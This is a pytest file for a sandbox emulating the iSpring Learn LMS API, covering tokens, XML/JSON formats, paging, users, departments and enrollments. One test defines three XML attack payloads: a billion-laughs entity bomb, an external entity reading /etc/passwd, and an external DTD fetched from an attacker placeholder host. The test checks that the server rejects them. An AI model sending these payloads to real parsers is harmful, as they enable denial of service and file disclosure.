"""The iSpring Learn emulation on the wire, in process: tokens, formats, paging, enrollments,
results, department scope, errors and webhook events."""

from __future__ import annotations

from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from typing import Any

import defusedxml.ElementTree as SafeElementTree
import httpx
import pytest
from starlette.applications import Starlette
from starlette.routing import Mount, Route

from sandbox.app import sandbox_credentials, sandbox_of
from sandbox.vendors.ispring.models import ISpringBackend
from tests.conftest import IN_PROCESS_URL, in_process_client

BASE = "/ispring"
JSON = {"Accept": "application/json"}
XML_BODY = {"Content-Type": "application/xml"}


@pytest.fixture
def creds(sandbox_app: Starlette) -> dict[str, str]:
    return sandbox_credentials(sandbox_app, IN_PROCESS_URL)["ispring"]


@pytest.fixture
def backend(sandbox_app: Starlette) -> ISpringBackend:
    vendor = sandbox_of(sandbox_app).vendors["ispring"]
    assert isinstance(vendor, ISpringBackend)
    return vendor


async def issue(client: httpx.AsyncClient, client_id: str, secret: str) -> str:
    answer = await client.post(
        f"{BASE}/api/v3/token",
        data={"client_id": client_id, "client_secret": secret, "grant_type": "client_credentials"},
        headers=JSON,
    )
    assert answer.status_code == 200, answer.text
    token: str = answer.json()["access_token"]
    return token


@pytest.fixture
async def client(sandbox_app: Starlette) -> AsyncIterator[httpx.AsyncClient]:
    async with in_process_client(sandbox_app) as client:
        yield client


@pytest.fixture
async def api(sandbox_app: Starlette, creds: dict[str, str]) -> AsyncIterator[httpx.AsyncClient]:
    """The account administrator's client: JSON answers, ``Authorization: Bearer <token>``."""
    async with in_process_client(sandbox_app) as client:
        token = await issue(client, creds["client_id"], creds["client_secret"])
        client.headers.update({**JSON, "Authorization": f"Bearer {token}"})
        yield client


@pytest.fixture
async def dept_api(
    sandbox_app: Starlette, creds: dict[str, str]
) -> AsyncIterator[httpx.AsyncClient]:
    """The department administrator's client."""
    async with in_process_client(sandbox_app) as client:
        token = await issue(
            client, creds["department_client_id"], creds["department_client_secret"]
        )
        client.headers.update({**JSON, "Authorization": f"Bearer {token}"})
        yield client


def assert_error(response: httpx.Response, status: int) -> str:
    """The iSpring error body ``{code, message}`` (JSON); its message."""
    assert response.status_code == status, response.text
    body = response.json()
    assert set(body) == {"code", "message"}
    assert body["code"] == status and body["message"]
    assert "Traceback" not in response.text
    message: str = body["message"]
    return message


async def all_pages(
    api: httpx.AsyncClient, path: str, key: str, params: list[tuple[str, Any]] | None = None
) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    token: str | None = None
    while True:
        query = [*(params or []), ("pageSize", 1000)] + ([("pageToken", token)] if token else [])
        answer = await api.get(BASE + path, params=query)
        assert answer.status_code == 200, answer.text
        body = answer.json()
        items += body[key]
        token = body.get("nextPageToken")
        if token is None:
            return items


async def enrollment_count(api: httpx.AsyncClient) -> int:
    return len((await api.get(f"{BASE}/enrollment")).json()["enrollments"])


async def free_pairs(
    api: httpx.AsyncClient, courses: int, learners: int, *, users: list[str] | None = None
) -> tuple[list[str], list[str]]:
    """Courses and learners (active, from ``users`` when given) with no enrollment between any
    of them."""
    enrollments = (await api.get(f"{BASE}/enrollment")).json()["enrollments"]
    taken = {(e["courseId"], e["learnerId"]) for e in enrollments}
    content = (await api.get(f"{BASE}/content", params={"contentTypes": "Course"})).json()
    course_ids = [item["contentItemId"] for item in content]
    if users is None:
        users = [u["userId"] for u in (await api.get(f"{BASE}/user")).json() if u["status"] == 1]
    chosen_courses: list[str] = []
    chosen_learners: list[str] = []
    for learner in users:
        if len(chosen_learners) == learners:
            break
        chosen_learners.append(learner)
    for course in course_ids:
        if all((course, learner) not in taken for learner in chosen_learners):
            chosen_courses.append(course)
        if len(chosen_courses) == courses:
            break
    assert len(chosen_courses) == courses and len(chosen_learners) == learners
    return chosen_courses, chosen_learners


def enroll_body(courses: list[str], learners: list[str], **extra: Any) -> dict[str, Any]:
    return {"courseIds": courses, "learnerIds": learners, "dueDateType": "unlimited", **extra}


async def enroll(
    api: httpx.AsyncClient, courses: list[str], learners: list[str], **extra: Any
) -> None:
    answer = await api.post(f"{BASE}/enrollment", json=enroll_body(courses, learners, **extra))
    assert answer.status_code == 201, answer.text
    assert answer.content == b""


async def find_enrollment(api: httpx.AsyncClient, course: str, learner: str) -> dict[str, Any]:
    answer = await api.get(
        f"{BASE}/enrollment", params={"courseIds[]": course, "learnerIds[]": learner}
    )
    (found,) = answer.json()["enrollments"]
    item: dict[str, Any] = found
    return item


async def result_of(api: httpx.AsyncClient, enrollment_id: str) -> dict[str, Any]:
    answer = await api.get(
        f"{BASE}/learners/results",
        params=[("enrollmentIds", enrollment_id), *[("userStatuses", s) for s in (1, 3, 5)]],
    )
    (found,) = answer.json()["results"]
    item: dict[str, Any] = found
    return item


def xml_of(response: httpx.Response) -> Any:
    assert response.headers["content-type"].startswith("application/xml")
    return SafeElementTree.fromstring(response.content)


# -- tokens ------------------------------------------------------------------------------------


async def test_access_request_returns_bearer_token_for_30_minutes(
    client: httpx.AsyncClient, creds: dict[str, str]
) -> None:
    answer = await client.post(
        f"{BASE}/api/v3/token",
        data={
            "client_id": creds["client_id"],
            "client_secret": creds["client_secret"],
            "grant_type": "client_credentials",
        },
        headers=JSON,
    )
    body = answer.json()
    assert answer.status_code == 200
    assert set(body) == {"access_token", "expires_in", "token_type"}
    assert body["expires_in"] == 1800 and body["token_type"] == "bearer"
    assert len(body["access_token"]) >= 40


async def test_access_request_without_accept_answers_xml(
    client: httpx.AsyncClient, creds: dict[str, str]
) -> None:
    answer = await client.post(
        f"{BASE}/api/v3/token",
        data={
            "client_id": creds["client_id"],
            "client_secret": creds["client_secret"],
            "grant_type": "client_credentials",
        },
    )
    root = xml_of(answer)
    assert root.tag == "response"
    assert [child.tag for child in root] == ["access_token", "expires_in", "token_type"]
    assert root.findtext("expires_in") == "1800"


@pytest.mark.parametrize(
    ("form", "status"),
    [
        ({}, 400),
        ({"grant_type": "password"}, 400),
        ({"grant_type": "client_credentials", "client_secret": "wrong"}, 401),
        ({"grant_type": "client_credentials", "client_id": "someone-else"}, 401),
    ],
)
async def test_access_request_bad_credentials_are_refused(
    client: httpx.AsyncClient, creds: dict[str, str], form: dict[str, str], status: int
) -> None:
    full = {"client_id": creds["client_id"], "client_secret": creds["client_secret"], **form}
    if not form:
        full = {}
    answer = await client.post(f"{BASE}/api/v3/token", data=full, headers=JSON)
    assert_error(answer, status)


@pytest.mark.parametrize("scheme", ["Bearer ", "bearer ", ""], ids=["Bearer", "lowercase", "bare"])
async def test_get_users_accepts_bearer_and_bare_token(
    client: httpx.AsyncClient, creds: dict[str, str], scheme: str
) -> None:
    token = await issue(client, creds["client_id"], creds["client_secret"])
    answer = await client.get(f"{BASE}/user", headers={**JSON, "Authorization": scheme + token})
    assert answer.status_code == 200
    assert len(answer.json()) > 100


async def test_get_users_expired_token_is_401(
    sandbox_app: Starlette, api: httpx.AsyncClient
) -> None:
    assert (await api.get(f"{BASE}/user")).status_code == 200
    sandbox_of(sandbox_app).clock.advance(1801)
    answer = await api.get(f"{BASE}/user")
    assert "expired" in assert_error(answer, 401)
    assert answer.headers["www-authenticate"].startswith("Bearer")


def ispring_routes(app: Starlette) -> list[tuple[str, str]]:
    (mount,) = [r for r in app.routes if isinstance(r, Mount) and r.path == BASE]
    sample = "3fa85f64-5717-4562-b3fc-2c963f66afa6"
    found = []
    for route in mount.routes:
        assert isinstance(route, Route)
        if route.path in ("/api/v3/token", "/{path:path}"):
            continue
        path = route.path
        for name in ("{userId}", "{departmentId}", "{contentId}", "{enrollmentId}"):
            path = path.replace(name, sample)
        for method in sorted((route.methods or set()) - {"HEAD"}):
            found.append((method, BASE + path))
    return found


@pytest.mark.parametrize(
    "authorization", [None, "", "nope", "Bearer nope", "Bearer", "Basic YWRtaW46YWRtaW4="]
)
async def test_every_route_refuses_missing_or_wrong_token(
    sandbox_app: Starlette, client: httpx.AsyncClient, authorization: str | None
) -> None:
    routes = ispring_routes(sandbox_app)
    assert len(routes) >= 20
    headers = {**JSON, **({"Authorization": authorization} if authorization is not None else {})}
    for method, path in routes:
        answer = await client.request(method, path, headers=headers)
        assert_error(answer, 401)


# -- formats -----------------------------------------------------------------------------------


async def test_list_enrollments_xml_answer_wraps_the_list(api: httpx.AsyncClient) -> None:
    answer = await api.get(
        f"{BASE}/enrollments", params={"pageSize": 3}, headers={"Accept": "application/xml"}
    )
    root = xml_of(answer)
    assert [child.tag for child in root] == ["enrollments", "nextPageToken"]
    items = list(root.find("enrollments"))
    assert [item.tag for item in items] == ["enrollment"] * 3
    assert items[0].findtext("shouldLockAfterDueDate") in ("true", "false")


async def test_get_enrollments_xml_answer_repeats_enrollment_elements(
    api: httpx.AsyncClient,
) -> None:
    answer = await api.get(f"{BASE}/enrollment", headers={"Accept": "application/xml"})
    root = xml_of(answer)
    assert root.tag == "response"
    assert {child.tag for child in root} == {"enrollment"}
    assert len(root) == len((await api.get(f"{BASE}/enrollment")).json()["enrollments"])


async def test_get_user_profile_xml_answer_has_user_profile(api: httpx.AsyncClient) -> None:
    user = (await api.get(f"{BASE}/user")).json()[0]
    answer = await api.get(f"{BASE}/user/{user['userId']}", headers={"Accept": "text/xml"})
    root = xml_of(answer)
    (profile,) = list(root)
    assert profile.tag == "userProfile"
    assert profile.findtext("userId") == user["userId"]
    assert profile.find("fields").findtext("login") == user["fields"]["login"]
    assert profile.find("userRole").findtext("roleType") == user["role"]


async def test_list_learner_results_xml_answer_has_result_elements(
    api: httpx.AsyncClient,
) -> None:
    answer = await api.get(
        f"{BASE}/learners/results", params={"pageSize": 2}, headers={"Accept": "*/*"}
    )
    root = xml_of(answer)
    results = root.find("results")
    assert [item.tag for item in results] == ["result", "result"]
    assert results[0].findtext("isOverdue") in ("true", "false")


@pytest.mark.parametrize(
    ("accept", "kind"),
    [
        ("application/json", "application/json"),
        ("application/xml", "application/xml"),
        ("application/xml;q=0.5, application/json", "application/json"),
        ("application/json;q=0.2, text/xml;q=0.9", "application/xml"),
        ("text/html", "application/xml"),
    ],
)
async def test_get_departments_format_follows_accept(
    api: httpx.AsyncClient, accept: str, kind: str
) -> None:
    answer = await api.get(f"{BASE}/department", headers={"Accept": accept})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith(kind)


async def test_get_departments_error_follows_accept(api: httpx.AsyncClient) -> None:
    answer = await api.get(f"{BASE}/department/not-a-uuid", headers={"Accept": "application/xml"})
    assert answer.status_code == 400
    root = xml_of(answer)
    assert [child.tag for child in root] == ["code", "message"]
    assert root.findtext("code") == "400"


SEED_SAMPLE = """<?xml version="1.0" encoding="UTF-8"?>
<request>
  <courseIds>{courses}</courseIds>
  <learnerIds>{learners}</learnerIds>
  <accessDate>2026-11-26 10:30:00</accessDate>
  <dueDateType>unlimited</dueDateType>
  <dueDate>2019-09-26</dueDate>
  <duePeriod>0</duePeriod>
</request>"""


async def test_enroll_learners_in_courses_accepts_the_seed_xml_body(
    api: httpx.AsyncClient,
) -> None:
    courses, learners = await free_pairs(api, 2, 2)
    body = SEED_SAMPLE.format(
        courses="".join(f"<id>{c}</id>" for c in courses),
        learners="".join(f"<id>{learner}</id>" for learner in learners),
    )
    answer = await api.post(f"{BASE}/enrollment", content=body, headers=XML_BODY)
    assert answer.status_code == 201 and answer.content == b""
    for course in courses:
        for learner in learners:
            found = await find_enrollment(api, course, learner)
            assert found["accessDate"] == "2026-11-26"
            assert "dueDate" not in found


async def test_list_enrollments_by_post_accepts_xml_and_json(api: httpx.AsyncClient) -> None:
    first = (await api.get(f"{BASE}/enrollments", params={"pageSize": 2})).json()["enrollments"]
    course = first[0]["courseId"]
    xml = f"<request><pageSize>5</pageSize><courseIds>{course}</courseIds></request>"
    by_xml = await api.post(f"{BASE}/enrollments", content=xml, headers=XML_BODY)
    by_json = await api.post(f"{BASE}/enrollments", json={"pageSize": 5, "courseIds": [course]})
    assert by_xml.status_code == by_json.status_code == 200
    assert by_xml.json() == by_json.json()
    assert {e["courseId"] for e in by_json.json()["enrollments"]} == {course}


def xml_list(name: str, values: list[str], *, wrapped: bool, item: str = "id") -> str:
    """A list field of an XML ``<request>``: wrapped (``<name><id>..</id></name>``, as the seed
    sends ids) or repeated (``<name>..</name><name>..</name>``, the document's unwrapped
    request arrays)."""
    if wrapped:
        return f"<{name}>" + "".join(f"<{item}>{v}</{item}>" for v in values) + f"</{name}>"
    return "".join(f"<{name}>{v}</{name}>" for v in values)


async def post_pages(
    api: httpx.AsyncClient, path: str, key: str, body: str | dict[str, Any]
) -> list[dict[str, Any]]:
    """Every page of a POST listing, the page token sent in the body's own format."""
    items: list[dict[str, Any]] = []
    token: str | None = None
    while True:
        if isinstance(body, str):
            tail = f"<pageToken>{token}</pageToken></request>" if token else "</request>"
            answer = await api.post(
                BASE + path, content=body.removesuffix("</request>") + tail, headers=XML_BODY
            )
        else:
            paged = {**body, "pageToken": token} if token else body
            answer = await api.post(BASE + path, json=paged)
        assert answer.status_code == 200, answer.text
        page = answer.json()
        items += page[key]
        token = page.get("nextPageToken")
        if token is None:
            return items


@pytest.mark.parametrize("wrapped", [False, True], ids=["repeated", "wrapped"])
async def test_list_users_v2_by_post_xml_body_answers_as_json(
    api: httpx.AsyncClient, wrapped: bool
) -> None:
    users = (await api.get(f"{BASE}/user/v2")).json()
    departments = sorted({u["departmentId"] for u in users})[:2]
    xml = (
        "<request><pageSize>3</pageSize>"
        + xml_list("departments", departments, wrapped=wrapped)
        + "</request>"
    )
    json_body = {"pageSize": 3, "departments": departments}
    by_xml = await api.post(f"{BASE}/users/v2", content=xml, headers=XML_BODY)
    by_json = await api.post(f"{BASE}/users/v2", json=json_body)
    assert by_xml.status_code == by_json.status_code == 200, by_xml.text
    assert by_xml.json() == by_json.json()
    assert "nextPageToken" in by_json.json()
    every = await post_pages(api, "/users/v2", "userProfiles", xml)
    assert every == await post_pages(api, "/users/v2", "userProfiles", json_body)
    assert [u["userId"] for u in every] == [
        u["userId"] for u in users if u["departmentId"] in departments
    ]


@pytest.mark.parametrize("wrapped", [False, True], ids=["repeated", "wrapped"])
async def test_list_users_v2_by_post_xml_string_filters_answer_as_json(
    api: httpx.AsyncClient, wrapped: bool
) -> None:
    users = (await api.get(f"{BASE}/user/v2")).json()
    chosen = [users[10], users[20], users[30]]
    logins = [u["fields"]["login"] for u in chosen]
    emails = [u["fields"]["email"] for u in chosen[:2]]
    xml = (
        "<request>"
        + xml_list("logins", logins, wrapped=wrapped, item="login")
        + xml_list("emails", emails, wrapped=wrapped, item="email")
        + "</request>"
    )
    by_xml = await api.post(f"{BASE}/users/v2", content=xml, headers=XML_BODY)
    by_json = await api.post(f"{BASE}/users/v2", json={"logins": logins, "emails": emails})
    assert by_xml.status_code == by_json.status_code == 200, by_xml.text
    assert by_xml.json() == by_json.json()
    found = {u["userId"] for u in by_json.json()["userProfiles"]}
    assert found == {u["userId"] for u in chosen[:2]}


@pytest.mark.parametrize("wrapped", [False, True], ids=["repeated", "wrapped"])
async def test_list_content_by_post_xml_body_answers_as_json(
    api: httpx.AsyncClient, wrapped: bool
) -> None:
    content = (await api.get(f"{BASE}/content")).json()
    courses = [c["contentItemId"] for c in content if c["contentItemType"] == "Course"][:5]
    track = next(c["contentItemId"] for c in content if c["contentItemType"] == "LearningTrack")
    ids = [*courses, track]
    xml = (
        "<request><pageSize>2</pageSize>"
        + xml_list("contentItemIds", ids, wrapped=wrapped)
        + xml_list("contentTypes", ["Course"], wrapped=wrapped, item="contentType")
        + "</request>"
    )
    json_body = {"pageSize": 2, "contentItemIds": ids, "contentTypes": ["Course"]}
    by_xml = await api.post(f"{BASE}/contents", content=xml, headers=XML_BODY)
    by_json = await api.post(f"{BASE}/contents", json=json_body)
    assert by_xml.status_code == by_json.status_code == 200, by_xml.text
    assert by_xml.json() == by_json.json()
    assert "nextPageToken" in by_json.json()
    every = await post_pages(api, "/contents", "contentItems", xml)
    assert every == await post_pages(api, "/contents", "contentItems", json_body)
    assert [c["contentItemId"] for c in every] == [
        c["contentItemId"] for c in content if c["contentItemId"] in courses
    ]


async def test_list_content_by_post_xml_body_answers_xml_like_json(
    api: httpx.AsyncClient,
) -> None:
    xml = "<request><contentTypes>LearningTrack</contentTypes></request>"
    by_json = await api.post(f"{BASE}/contents", json={"contentTypes": ["LearningTrack"]})
    answer = await api.post(
        f"{BASE}/contents", content=xml, headers={**XML_BODY, "Accept": "application/xml"}
    )
    assert answer.status_code == 200
    root = xml_of(answer)
    items = root.find("contentItems")
    assert items is not None
    expected = [c["contentItemId"] for c in by_json.json()["contentItems"]]
    assert expected and [i.findtext("contentItemId") for i in items] == expected


@pytest.mark.parametrize(
    ("path", "xml", "detail"),
    [
        ("/users/v2", "<request><userIds>42</userIds></request>", "userIds"),
        ("/users/v2", "<request><pageSize>many</pageSize></request>", "pageSize"),
        ("/contents", "<request><contentTypes>Movie</contentTypes></request>", "contentTypes"),
        ("/contents", "<query><contentTypes>Course</contentTypes></query>", "<request>"),
    ],
)
async def test_list_by_post_bad_xml_body_is_400_like_json(
    api: httpx.AsyncClient, path: str, xml: str, detail: str
) -> None:
    answer = await api.post(BASE + path, content=xml, headers=XML_BODY)
    assert detail in assert_error(answer, 400)


@pytest.mark.parametrize("kind", ["json", "xml"])
async def test_change_enrollment_accepts_xml_and_json(api: httpx.AsyncClient, kind: str) -> None:
    target = (await api.get(f"{BASE}/enrollments", params={"pageSize": 1})).json()["enrollments"]
    path = f"{BASE}/enrollment/{target[0]['enrollmentId']}"
    if kind == "json":
        body = {
            "accessDate": "2027-01-02 08:00:00",
            "dueDateType": "due_date",
            "dueDate": "2027-02-01",
            "lockAfterDueDate": True,
        }
        answer = await api.post(path, json=body)
    else:
        xml = (
            "<request><accessDate>2027-01-02 08:00:00</accessDate>"
            "<dueDateType>due_date</dueDateType><dueDate>2027-02-01</dueDate>"
            "<lockAfterDueDate>true</lockAfterDueDate></request>"
        )
        answer = await api.post(path, content=xml, headers=XML_BODY)
    assert answer.status_code == 200 and answer.content == b""
    changed = (await api.get(path)).json()
    assert changed["accessDate"] == "2027-01-02"
    assert changed["dueDate"] == changed["expirationDate"] == "2027-02-01"
    assert changed["shouldLockAfterDueDate"] is True


@pytest.mark.parametrize("kind", ["json", "xml"])
async def test_unenroll_accepts_xml_and_json(api: httpx.AsyncClient, kind: str) -> None:
    page = (await api.get(f"{BASE}/enrollments", params={"pageSize": 2})).json()["enrollments"]
    ids = [e["enrollmentId"] for e in page]
    if kind == "json":
        answer = await api.post(f"{BASE}/enrollment/delete", json={"enrollmentIds": ids})
    else:
        xml = "<request><enrollmentIds>" + "".join(f"<id>{i}</id>" for i in ids)
        answer = await api.post(
            f"{BASE}/enrollment/delete",
            content=xml + "</enrollmentIds></request>",
            headers=XML_BODY,
        )
    assert answer.status_code == 204
    for enrollment_id in ids:
        assert_error(await api.get(f"{BASE}/enrollment/{enrollment_id}"), 404)


@pytest.mark.parametrize("kind", ["json", "xml"])
async def test_reenroll_accepts_xml_and_json(api: httpx.AsyncClient, kind: str) -> None:
    done = await api.get(
        f"{BASE}/learners/results", params={"completionStatuses": "complete", "pageSize": 1}
    )
    enrollment_id = done.json()["results"][0]["enrollmentId"]
    path = f"{BASE}/enrollment/{enrollment_id}/reenroll"
    if kind == "json":
        answer = await api.post(path, json={"accessDate": "2027-03-01", "dueDateType": "unlimited"})
    else:
        xml = "<request><accessDate>2027-03-01</accessDate><dueDateType>unlimited</dueDateType>"
        answer = await api.post(path, content=xml + "</request>", headers=XML_BODY)
    assert answer.status_code == 200 and answer.content == b""
    result = await result_of(api, enrollment_id)
    assert result["completionStatus"] == "not_started"
    assert result["progress"] == 0 and result["timeSpent"] == 0
    assert "completionDate" not in result and "awardedScore" not in result
    assert result["accessDate"].startswith("2027-03-01")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE request [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<request><courseIds><id>&lol9;</id></courseIds><dueDateType>unlimited</dueDateType></request>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE request [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<request><courseIds><id>&secret;</id></courseIds><learnerIds><id>&secret;</id></learnerIds>
<dueDateType>unlimited</dueDateType></request>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE request SYSTEM "http://attacker.invalid/evil.dtd">
<request><dueDateType>unlimited</dueDateType></request>"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD],
    ids=["billion-laughs", "external-entity", "external-dtd"],
)
async def test_enroll_learners_in_courses_refuses_xml_bombs_without_evaluating(
    api: httpx.AsyncClient, body: bytes
) -> None:
    before = await enrollment_count(api)
    answer = await api.post(f"{BASE}/enrollment", content=body, headers=XML_BODY)
    message = assert_error(answer, 400)
    assert "DTD" in message
    assert "root:" not in answer.text and "lollol" not in answer.text
    assert await enrollment_count(api) == before


@pytest.mark.parametrize(
    ("body", "content_type", "fragment"),
    [
        (b"<request><courseIds>", "application/xml", "well-formed"),
        (b"<enroll><dueDateType>unlimited</dueDateType></enroll>", "application/xml", "<request>"),
        (b"<request><duePeriod>soon</duePeriod></request>", "application/xml", "duePeriod"),
        (b'{"courseIds": [', "application/json", "JSON"),
        (b"[1, 2]", "application/json", "object"),
        (b'{"courseIds": ["x"]', None, "JSON"),
    ],
)
async def test_enroll_learners_in_courses_malformed_body_is_400(
    api: httpx.AsyncClient, body: bytes, content_type: str | None, fragment: str
) -> None:
    headers = {"Content-Type": content_type} if content_type else {}
    answer = await api.post(f"{BASE}/enrollment", content=body, headers=headers)
    assert fragment in assert_error(answer, 400)


# -- paging ------------------------------------------------------------------------------------


async def test_list_enrollments_page_token_round_trip_matches_unpaged_list(
    api: httpx.AsyncClient,
) -> None:
    unpaged = (await api.get(f"{BASE}/enrollment")).json()["enrollments"]
    paged: list[dict[str, Any]] = []
    params: dict[str, Any] = {"pageSize": 700}
    while True:
        body = (await api.get(f"{BASE}/enrollments", params=params)).json()
        assert len(body["enrollments"]) <= 700
        paged += body["enrollments"]
        if "nextPageToken" not in body:
            break
        params = {"pageSize": 700, "pageToken": body["nextPageToken"]}
    assert paged == unpaged


async def test_list_enrollments_default_page_size_is_1000(api: httpx.AsyncClient) -> None:
    body = (await api.get(f"{BASE}/enrollments")).json()
    assert len(body["enrollments"]) == 1000 and body["nextPageToken"]
    capped = (await api.get(f"{BASE}/enrollments", params={"pageSize": 5000})).json()
    assert len(capped["enrollments"]) == 1000


@pytest.mark.parametrize("size", ["0", "-3", "many"])
async def test_list_users_bad_page_size_is_400(api: httpx.AsyncClient, size: str) -> None:
    assert "pageSize" in assert_error(
        await api.get(f"{BASE}/users", params={"pageSize": size}), 400
    )


@pytest.mark.parametrize("token", ["bm90LWEtdG9rZW4", "!!", "é"])
async def test_list_enrollments_forged_page_token_is_400(
    api: httpx.AsyncClient, token: str
) -> None:
    answer = await api.get(f"{BASE}/enrollments", params={"pageToken": token})
    assert "pageToken" in assert_error(answer, 400)


async def test_list_enrollments_page_token_of_other_filters_is_400(
    api: httpx.AsyncClient,
) -> None:
    token = (await api.get(f"{BASE}/enrollments", params={"pageSize": 1})).json()["nextPageToken"]
    first = (await api.get(f"{BASE}/enrollments", params={"pageSize": 1})).json()["enrollments"]
    answer = await api.get(
        f"{BASE}/enrollments", params={"pageToken": token, "courseIds[]": first[0]["courseId"]}
    )
    assert_error(answer, 400)


async def test_list_users_v2_pages_cover_every_user_once(api: httpx.AsyncClient) -> None:
    users = await all_pages(api, "/users/v2", "userProfiles")
    everyone = (await api.get(f"{BASE}/user/v2")).json()
    assert [u["userId"] for u in users] == [u["userId"] for u in everyone]
    assert len({u["userId"] for u in users}) == len(users)


# -- users, departments, content ---------------------------------------------------------------


async def test_get_users_v1_status_folds_terminated_into_inactive(api: httpx.AsyncClient) -> None:
    v1 = {u["userId"]: u["status"] for u in (await api.get(f"{BASE}/user")).json()}
    v2 = {u["userId"]: u["status"] for u in (await api.get(f"{BASE}/user/v2")).json()}
    assert set(v2.values()) == {1, 3, 5} and set(v1.values()) == {1, 3}
    assert all(v1[user] == (3 if status == 5 else status) for user, status in v2.items())
    terminated = next(user for user, status in v2.items() if status == 5)
    assert (await api.get(f"{BASE}/user/{terminated}/v2")).json()["response"]["status"] == 5
    assert (await api.get(f"{BASE}/user/{terminated}")).json()["response"]["status"] == 3


async def test_list_users_v2_filters_by_login_email_department_and_ids(
    api: httpx.AsyncClient,
) -> None:
    users = (await api.get(f"{BASE}/user/v2")).json()
    target, other = users[10], users[20]
    by_login = await api.get(f"{BASE}/users/v2", params={"logins[]": target["fields"]["login"]})
    assert [u["userId"] for u in by_login.json()["userProfiles"]] == [target["userId"]]
    by_email = await api.get(f"{BASE}/users/v2", params={"emails[]": target["fields"]["email"]})
    assert [u["userId"] for u in by_email.json()["userProfiles"]] == [target["userId"]]
    ids = [("userIds[]", target["userId"]), ("userIds[]", other["userId"])]
    by_ids = (await api.get(f"{BASE}/users/v2", params=ids)).json()["userProfiles"]
    assert {u["userId"] for u in by_ids} == {target["userId"], other["userId"]}
    dept = target["departmentId"]
    in_dept = await all_pages(api, "/users", "userProfiles", [("departments[]", dept)])
    assert in_dept and all(u["departmentId"] == dept for u in in_dept)
    assert len(in_dept) == sum(1 for u in users if u["departmentId"] == dept)
    posted = await api.post(f"{BASE}/users/v2", json={"logins": [target["fields"]["login"]]})
    assert [u["userId"] for u in posted.json()["userProfiles"]] == [target["userId"]]


async def test_get_users_group_filter_matches_no_one(api: httpx.AsyncClient) -> None:
    answer = await api.get(
        f"{BASE}/user", params={"groups[]": "3fa85f64-5717-4562-b3fc-2c963f66afa6"}
    )
    assert answer.json() == []


async def test_get_departments_form_a_tree_under_one_root(api: httpx.AsyncClient) -> None:
    departments = (await api.get(f"{BASE}/department")).json()["departments"]
    ids = {d["departmentId"] for d in departments}
    roots = [d for d in departments if "parentDepartmentId" not in d]
    assert len(roots) == 1
    assert all(d["parentDepartmentId"] in ids for d in departments if d not in roots)
    nested = [
        d
        for d in departments
        if d.get("parentDepartmentId") not in (None, roots[0]["departmentId"])
    ]
    assert len(nested) >= 4
    one = (await api.get(f"{BASE}/department", params={"code": nested[0]["code"]})).json()
    assert one["departments"] == [nested[0]]
    detail = await api.get(f"{BASE}/department/{nested[0]['departmentId']}")
    assert detail.json() == {"response": nested[0]}


async def test_get_content_lists_courses_and_learning_tracks(api: httpx.AsyncClient) -> None:
    content = (await api.get(f"{BASE}/content")).json()
    kinds = {item["contentItemType"] for item in content}
    assert kinds == {"Course", "LearningTrack"}
    tracks = (await api.get(f"{BASE}/content", params={"contentTypes": "LearningTrack"})).json()
    assert tracks and {item["contentItemType"] for item in tracks} == {"LearningTrack"}
    paged = await all_pages(api, "/contents", "contentItems")
    assert paged == content
    item = (await api.get(f"{BASE}/content/{content[3]['contentItemId']}")).json()
    assert item == {"contentItem": content[3]}
    assert_error(await api.get(f"{BASE}/content", params={"contentTypes": "Movie"}), 400)


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/user/3fa85f64-5717-4562-b3fc-2c963f66afa6", 404),
        ("/user/3fa85f64-5717-4562-b3fc-2c963f66afa6/v2", 404),
        ("/department/3fa85f64-5717-4562-b3fc-2c963f66afa6", 404),
        ("/content/3fa85f64-5717-4562-b3fc-2c963f66afa6", 404),
        ("/enrollment/3fa85f64-5717-4562-b3fc-2c963f66afa6", 404),
        ("/user/12", 400),
        ("/enrollment/nope", 400),
    ],
)
async def test_get_unknown_or_malformed_id_is_404_or_400(
    api: httpx.AsyncClient, path: str, status: int
) -> None:
    assert_error(await api.get(BASE + path), status)


# -- enrollments -------------------------------------------------------------------------------


async def test_enroll_learners_in_courses_enrolls_every_pair_once(
    api: httpx.AsyncClient,
) -> None:
    courses, learners = await free_pairs(api, 3, 4)
    before = await enrollment_count(api)
    await enroll(api, courses, learners)
    assert await enrollment_count(api) == before + 12
    await enroll(api, courses, learners)  # already enrolled: no duplicates, still 201
    assert await enrollment_count(api) == before + 12
    query: list[tuple[str, str | int | float | bool | None]] = [
        *[("courseIds[]", c) for c in courses],
        *[("learnerIds[]", u) for u in learners],
    ]
    listed = await api.get(f"{BASE}/enrollment", params=query)
    pairs = {(e["courseId"], e["learnerId"]) for e in listed.json()["enrollments"]}
    assert pairs == {(c, u) for c in courses for u in learners}


async def test_enroll_learners_in_courses_access_date_defaults_to_now(
    sandbox_app: Starlette, api: httpx.AsyncClient
) -> None:
    courses, learners = await free_pairs(api, 1, 1)
    await enroll(api, courses, learners)
    found = await find_enrollment(api, courses[0], learners[0])
    today = sandbox_of(sandbox_app).clock.now().date().isoformat()
    assert found["accessDate"] == today
    assert found["enrollmentTypeGroup"] == 0 and "dueDate" not in found


